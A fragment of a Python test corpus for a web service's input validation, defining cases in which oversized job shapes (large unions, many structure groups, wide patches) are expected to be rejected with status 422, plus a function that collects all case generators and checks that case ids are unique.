    yield Case("web-poi-missing", "web form", path="/full", body=web_form(ws, None), content_type=MULTIPART, status=422)


def hostile_shapes() -> Iterator[Case]:
    """Valid, small submissions whose padded models are huge (issue #17, tests/service/hostile_shapes.py);
    the hostile service runs chunks of 4 patches."""
    from service.hostile_shapes import group_explosion, union_blowup, wide_patch

    def body(pair: tuple[dict[str, Any], dict[str, Any]]) -> dict[str, Any]:
        return {"workspace": pair[0], "patchset": pair[1]}

    yield _json_case(
        "shape-union-blowup-k600",
        "hostile job shapes",
        body(union_blowup(600, n=4)),
        status=422,
        where="patchset: patches 0..3",
        message="has 2406 parameters",
    )
    yield _json_case(
        "shape-group-explosion-32",
        "hostile job shapes",
        body(group_explosion(32)),
        status=422,
        where="patchset",
        message="32 structure groups",
    )
    yield _json_case(
        "shape-wide-patch-5000",
        "hostile job shapes",
        body(wide_patch(5000)),
        status=422,
        where="patchset: patch 'w0'",
        message="5005 parameters",
    )
    yield _json_case(
        "shape-union-small-accepted",
        "hostile job shapes",
        body(union_blowup(2, n=4)),
        expect="accept",
        names=("u0", "u1", "u2", "u3"),
    )


def corpus() -> list[Case]:
    cases: list[Case] = []
    for gen in (
        baselines,
        broken_json,
        wrong_types,
        non_finite,
        negative_values,
        deep_nesting,
        bad_patches,
        bad_operations,
        semantics,
        absurd_options,
        hostile_names,
        invalid_utf8,
        content_types,
        broken_multipart,
        oversized,
        hostile_gets,
        web_form_cases,
        hostile_shapes,
    ):
        cases.extend(gen())
    ids = [c.id for c in cases]
    dup = {i for i in ids if ids.count(i) > 1}
    assert not dup, f"duplicate case ids: {sorted(dup)[:5]}"
    return cases
